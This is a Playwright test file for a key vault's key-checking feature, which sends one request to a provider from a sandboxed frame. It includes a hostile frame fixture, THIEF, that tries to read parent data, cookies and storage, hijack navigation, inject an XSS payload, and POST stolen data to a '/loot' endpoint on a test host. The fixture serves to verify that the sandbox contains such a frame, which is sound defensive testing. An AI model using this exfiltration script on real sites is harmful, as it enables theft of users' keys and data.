// Does a key still work? One request from a frame of its own, and nothing comes back but a verdict.

import type { Locator, Page } from '@playwright/test';

import { isAccessible } from '../support/axe.ts';
import { sightings, sightingsBelow } from '../support/canary.ts';
import { expect, test } from '../support/fixtures.ts';
import { isTrusted, ITEMS, story } from '../support/lying.ts';
import { Provider } from '../support/provider.ts';

const checked = test.extend<{ provider: Provider }>({
  provider: async ({}, use) => {
    const provider = await Provider.start();
    await use(provider);
    await provider.stop();
  },
});

const section = (page: Page): Locator => page.getByRole('region', { name: 'Test', exact: true });

/** Has the open item tested in a way of its own. */
async function define(page: Page, url: string, change?: (dialog: Locator) => Promise<void>): Promise<void> {
  await section(page).getByRole('button', { name: 'Change the test' }).click();
  const dialog = page.getByRole('dialog', { name: 'How this key is tested' });
  await dialog.getByLabel('Address').fill(url);
  await change?.(dialog);
  await dialog.getByRole('button', { name: 'Save the test' }).click();
  await expect(dialog).toBeHidden();
}

async function press(page: Page): Promise<void> {
  await section(page).getByRole('button', { name: 'Test', exact: true }).click();
}

/** Agrees to ask a host for the first time. */
async function agree(page: Page, host: string): Promise<void> {
  const dialog = page.getByRole('dialog', { name: `Ask ${host}?` });
  await dialog.getByRole('button', { name: 'Ask', exact: true }).click();
}

/** Waits until what was found is kept with the item. */
async function isKept(page: Page): Promise<void> {
  await expect(section(page).getByRole('button', { name: 'Change the test' })).toBeEnabled();
}

/** Changes the address, tests, and waits for the outcome. */
async function finds(page: Page, url: string, outcome: string, words: RegExp): Promise<void> {
  await define(page, url);
  await press(page);
  await expect(section(page).getByText(words)).toBeVisible({ timeout: 30_000 });
  await expect(section(page).locator('.badge').filter({ hasText: outcome }).first()).toBeVisible();
  await isKept(page);
}

/** No frame stays behind. */
const framesOf = (page: Page) => page.frames().length;

checked('what is typed of a test outlasts a change of the item elsewhere', async ({ context, page, person, provider, vault }) => {
  await vault.addKey({ name: 'A key', secret: 'the-tested-secret' });
  await section(page).getByRole('button', { name: 'Change the test' }).click();
  const address = page.getByRole('dialog', { name: 'How this key is tested' }).getByLabel('Address');
  await address.fill(provider.url('/valid'));
  const other = person.at(await context.newPage());
  await other.page.goto('/vault');
  const second = await other.unlock();
  const elsewhere = await second.open('A key');
  await elsewhere.getByRole('button', { name: 'Edit' }).click();
  await second.fillKey({ name: 'A key with another name' });
  await second.save();
  await expect(second.detail('A key with another name')).toBeVisible();
  await page.bringToFront();
  await expect(page.locator('#items').getByText('A key with another name')).toBeVisible();
  await expect(address).toHaveValue(provider.url('/valid'));
  await page.keyboard.press('Escape');
  await expect(vault.detail('A key with another name')).toBeVisible();
});

checked('a key is tested where somebody said, after being asked once, and the outcome stays', async ({
  page,
  person,
  provider,
  vault,
  guard,
}) => {
  test.slow();
  guard.allow(/blocked by CORS policy/);
  guard.allow(/net::ERR_FAILED/);
  for (const status of [401, 429]) guard.allowStatus(status);
  await vault.addKey({ name: 'A key', secret: 'the-tested-secret' });
  await expect(section(page).getByText('Never tested')).toBeVisible();

  // Nothing is known of this key, so the dialog opens by itself; what cannot be asked is refused.
  await press(page);
  const dialog = page.getByRole('dialog', { name: 'How this key is tested' });
  await dialog.getByLabel('Address').fill('http://provider.example/me');
  await dialog.getByRole('button', { name: 'Save the test' }).click();
  await expect(dialog.getByText('Begins with https://, unless it is localhost.')).toBeVisible();
  await isAccessible(page, 'how a key is tested');
  await dialog.getByRole('button', { name: 'Cancel' }).click();

  await define(page, provider.url('/valid'));
  await press(page);
  const question = page.getByRole('dialog', { name: `Ask ${provider.host}?` });
  await expect(question.getByRole('button', { name: 'Cancel' })).toBeFocused();
  await isAccessible(page, 'the question whether to ask a host');
  await page.keyboard.press('Escape');
  await expect(question).toBeHidden();
  expect(provider.heard).toEqual([]);

  await press(page);
  await agree(page, provider.host);
  await expect(section(page).getByText('The provider takes this key.')).toBeVisible();
  await expect(section(page).getByText(`One request to ${provider.host}, straight from this browser`)).toBeVisible();
  await expect(section(page).getByText('Tested today')).toBeVisible();
  const [asked, ...others] = provider.asked('/valid');
  expect(others).toEqual([]);
  expect(asked!.headers.authorization).toBe('Bearer the-tested-secret');
  expect(asked!.headers).toMatchObject({ origin: 'null' });
  expect(asked!.headers.referer).toBeUndefined();
  expect(asked!.headers.cookie).toBeUndefined();
  await expect.poll(() => framesOf(page)).toBe(1);
  await isAccessible(page, 'what a test found');

  // Agreed to once, each way of answering.
  await finds(page, provider.url('/invalid'), 'Invalid', /does not take this key/);
  await expect(vault.row('A key').locator('.badge').filter({ hasText: 'Invalid' })).toBeVisible();
  await finds(page, provider.url('/expired'), 'Expired', /the key’s time is over/);
  await finds(page, provider.url('/limited'), 'Rate-limited', /too many requests/);
  await finds(page, provider.url('/redirect'), 'Unclear', /It did not go there/);
  expect(provider.asked('/gone')).toEqual([]);
  await finds(page, provider.url('/closed'), 'Blocked', /does not let a browser ask/);
  expect(provider.asked('/closed')).toEqual([]);
  await section(page).getByRole('button', { name: 'Copy the line' }).click();
  await expect(vault.toast.filter({ hasText: 'The line copied' })).toBeVisible();
  const line = await vault.clipboard();
  expect(line).toContain(provider.url('/closed'));
  expect(line).toContain('"$API_KEY"');
  expect(line).not.toContain('the-tested-secret');

  // The shortcut, another place for the key, and a body that has to say something.
  await define(page, provider.url('/valid'), async (form) => {
    await form.getByLabel('The key stands in').selectOption({ label: 'A parameter of the address' });
    await form.getByLabel('Name of the parameter').fill('api_key');
    await form.getByLabel('And the answer holds').fill('"OK":*false');
  });
  await page.getByRole('heading', { name: 'A key' }).focus();
  await page.keyboard.press('t');
  await expect(section(page).getByText(/does not take this key/)).toBeVisible();
  expect(provider.asked('/valid').at(-1)!.path).toBe('/valid?api_key=the-tested-secret');

  // What was found is sealed with the item, and is there again when the vault is.
  await isKept(page);
  await page.reload();
  await person.unlock();
  await vault.open('A key');
  await expect(section(page).getByText('Tested today')).toBeVisible();
  await expect(section(page).locator('.badge')).toHaveText('Invalid');
});

checked('a provider that keeps silent is given up on', async ({ page, provider, vault }) => {
  await vault.addKey({ name: 'A key', secret: 'the-tested-secret' });
  await define(page, provider.url('/slow'));
  await press(page);
  await agree(page, provider.host);
  await expect(section(page).getByText(`Asking ${provider.host}…`)).toBeVisible();
  await expect(section(page).getByText(/No answer came within 15 seconds/)).toBeVisible({ timeout: 30_000 });
  await expect.poll(() => framesOf(page)).toBe(1);
});

checked('a hostile answer can only lie about itself', async ({ context, page, provider, vault }) => {
  await vault.addKey({ name: 'A key', secret: 'the-tested-secret' });
  const before = page.url();
  await define(page, provider.url('/hostile'));
  await press(page);
  await agree(page, provider.host);
  await expect(section(page).getByText('The provider takes this key.')).toBeVisible({ timeout: 30_000 });
  expect(page.url()).toBe(before);
  // Cookies are of a host, whatever the port: KeyArc's own is among them.
  const names = (await context.cookies(provider.url('/'))).map(({ name }) => name);
  expect(names).not.toContain('from');
  expect(provider.asked('/gone')).toEqual([]);
  await expect.poll(() => framesOf(page)).toBe(1);
  await expect(page.getByText('top.location')).toHaveCount(0);
  await vault.lock();
});

/** What a frame does whose code is another's: it takes the errand and tries everything. */
const THIEF = (loot: string) => `<!DOCTYPE html><script>
addEventListener('message', ({ ports: [port] }) => {
  if (!port) return;
  const tried = {};
  const attempt = (name, act) => { try { act(); tried[name] = 'done'; } catch (error) { tried[name] = error.name; } };
  port.onmessage = ({ data }) => {
    attempt('document', () => parent.document.body.textContent);
    attempt('storage', () => localStorage.length);
    attempt('cookies', () => document.cookie);
    attempt('top', () => { top.location.href = '${loot}/gone'; });
    attempt('popup', () => { tried.opened = String(window.open('${loot}/gone')); });
    for (let count = 0; count < 100; count += 1) parent.postMessage([1, 200, count], '*');
    fetch('${loot}/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ tried, data }) });
    port.postMessage({ html: '<img src=x onerror=alert(1)>'.repeat(100000) });
    port.postMessage([1, 200, 0]);
    setTimeout(() => { location.href = '${loot}/gone?' + encodeURIComponent(JSON.stringify(data)); }, 200);
  };
  port.postMessage([0, 0, 0]);
});
</script>`;

story('a server that changes the frame for tests gets no key, and where browsers let it, one key', async ({
  guard,
  liar,
  page,
  there,
  vault,
}) => {
  test.slow();
  guard.allow(/Content Security Policy|Content-Security-Policy|navigat|sandbox|net::ERR_BLOCKED_BY_CSP/i);
  guard.allow(/Failed to load resource|ERR_BLOCKED_BY_RESPONSE|origin-keyed/);
  const provider = await Provider.start();
  try {
    await vault.isLocked();
    let open = await isTrusted(there);
    await open.open(ITEMS[0]!.name);
    await define(page, provider.url('/valid'));
    liar.instead = ({ path }) =>
      path.startsWith('/check-frame')
        ? { status: 200, type: 'text/html', body: Buffer.from(THIEF(provider.url(''))) }
        : undefined;
    // The page says which script the frame may run: this one runs nothing and is told nothing.
    await press(page);
    await agree(page, provider.host);
    await expect(section(page).getByText(/The frame that tests run in did not arrive/)).toBeVisible({ timeout: 30_000 });
    expect(provider.heard).toEqual([]);

    // As in browsers that do not know how a page says that.
    await page.addInitScript(() => {
      const set = Element.prototype.setAttribute;
      Element.prototype.setAttribute = function (name, value) {
        if (name !== 'csp') set.call(this, name, value);
      };
    });
    open = await isTrusted(there);
    await open.open(ITEMS[0]!.name);
    const before = page.url();
    await press(page);
    await agree(page, provider.host);
    await expect(section(page).getByText(/gave no answer/)).toBeVisible({ timeout: 30_000 });
    await expect.poll(() => provider.asked('/loot').length).toBe(1);
    const { tried, data } = JSON.parse(provider.asked('/loot')[0]!.body) as {
      tried: Record<string, string>;
      data: unknown[];
    };
    expect(JSON.stringify(data)).toContain(ITEMS[0]!.secret);
    expect(tried).toMatchObject({ document: 'SecurityError', storage: 'SecurityError', cookies: 'SecurityError' });
    expect(tried['top']).toBe('SecurityError');
    expect(tried['opened']).toBe('null');
    for (const word of [ITEMS[1]!.name, ITEMS[1]!.secret, ITEMS[0]!.name, there.password]) {
      expect(JSON.stringify(provider.heard)).not.toContain(word);
    }
    expect(page.url()).toBe(before);
    await expect.poll(() => framesOf(page)).toBe(1);
    await page.waitForTimeout(500);
    expect(provider.asked('/gone')).toEqual([]);
    await expect(section(page).getByText(/gave no answer/)).toBeVisible();
    await expect(open.row(ITEMS[1]!.name)).toBeVisible();
  } finally {
    await provider.stop();
  }
});

/** Keys in the shape of three providers that let browsers ask, and of one that does not. */
const KEYS = {
  OPENAI_API_KEY: `sk-proj-${'a1B2c3D4'.repeat(8)}`,
  GROQ_API_KEY: `gsk_${'a1B2c3D4'.repeat(7)}`,
  GITHUB_TOKEN: `ghp_${'a1B2c3'.repeat(6)}`,
  SENDGRID_API_KEY: `SG.${'a1B2c3D4e5'.repeat(2)}Xy.${'a1B2c3D4'.repeat(5)}XyZ`,
};

checked('all keys are tested one after the other, each host asked about once, in one write', async ({
  context,
  guard,
  page,
  server,
  vault,
}) => {
  guard.allowStatus(401);
  const asked: string[] = [];
  const answers: Record<string, number> = { 'api.openai.com': 200, 'api.groq.com': 401, 'api.github.com': 200 };
  await context.route(/^https:/, async (route) => {
    const { hostname } = new URL(route.request().url());
    asked.push(`${hostname} ${(await route.request().headerValue('authorization')) ?? ''}`);
    const headers = { 'access-control-allow-origin': '*' };
    await route.fulfill({ status: answers[hostname] ?? 404, headers, body: '{}' });
  });
  const text = Object.entries(KEYS).map(([name, value]) => `${name}=${value}`);
  await vault.previewImport(text.join('\n'));
  await page.getByRole('button', { name: 'Import 4 items', exact: true }).click();
  await expect(vault.rows).toHaveCount(4);

  const written: string[] = [];
  page.on('request', (request) => {
    if (request.method() === 'POST' && request.url().endsWith('/items')) written.push(request.url());
  });
  await page.keyboard.press('ControlOrMeta+k');
  await page.keyboard.type('test all');
  await page.getByRole('option', { name: 'Test all keys' }).click();
  await expect(page.getByText('3 keys can be tested.')).toBeVisible();
  await expect(page.getByText('1 further key is of a provider that does not let a browser ask.')).toBeVisible();
  await isAccessible(page, 'what can be tested');
  expect(asked).toEqual([]);
  await page.getByRole('button', { name: 'Test 3 keys' }).click();
  for (let hosts = 0; hosts < 3; hosts += 1) {
    const question = page.getByRole('dialog', { name: /^Ask api\./ });
    await expect(question).toBeVisible();
    const verb = (await question.innerText()).includes('api.github.com') ? 'Pass over' : 'Ask';
    const host = await question.locator('b').innerText();
    await question.getByRole('button', { name: verb, exact: true }).click();
    await expect(page.getByRole('dialog', { name: `Ask ${host}?` })).toBeHidden();
  }
  await expect(page.getByText('All done: 2 keys tested.')).toBeVisible();
  await expect(page.getByText(/^1 key passed over/)).toBeVisible();
  expect([...asked].sort()).toEqual([
    `api.groq.com Bearer ${KEYS.GROQ_API_KEY}`,
    `api.openai.com Bearer ${KEYS.OPENAI_API_KEY}`,
  ]);
  await expect(page.getByRole('row').filter({ hasText: 'Invalid' })).toContainText('does not take this key');
  await isAccessible(page, 'what was found');
  await expect.poll(() => written.length).toBe(1);
  await page.getByRole('row').filter({ hasText: 'Invalid' }).getByRole('link').click();
  await expect(section(page).getByText('Tested today')).toBeVisible();
  await expect.poll(() => framesOf(page)).toBe(1);

  // The keys went to their providers and nowhere else.
  const words = Object.values(KEYS);
  expect(sightings('log', server.log, words)).toEqual([]);
  expect(sightingsBelow(server.folder, words)).toEqual([]);
});

checked('a lock in the middle of a test ends it', async ({ page, person, provider, vault }) => {
  await vault.addKey({ name: 'A key', secret: 'the-tested-secret' });
  await define(page, provider.url('/slow'));
  await press(page);
  await agree(page, provider.host);
  await expect.poll(() => provider.asked('/slow').length).toBe(1);
  await vault.lock();
  await expect.poll(() => framesOf(page)).toBe(1);
  await expect(vault.toast).toHaveCount(0);
  await person.unlock();
  await vault.open('A key');
  await expect(section(page).getByText('Never tested')).toBeVisible();
});
